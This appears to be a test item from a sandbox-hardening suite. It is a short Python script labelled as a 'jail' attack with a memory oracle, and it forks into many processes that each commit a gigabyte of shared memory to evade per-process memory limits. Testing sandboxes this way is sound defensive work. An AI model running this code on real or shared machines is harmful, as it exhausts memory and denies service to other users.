# attack: jail/shared-memory-of-many
# oracle: memory
# imports: os, mmap, time
# tools:
# source: own
# note: shared mappings count in no process's own memory
import mmap, os, time
for _ in range(4):
    os.fork()
    try:
        m = mmap.mmap(-1, 1 << 30)
        for at in range(0, len(m), 4096):
            m[at] = 1
    except (OSError, ValueError):
        pass
time.sleep(20)
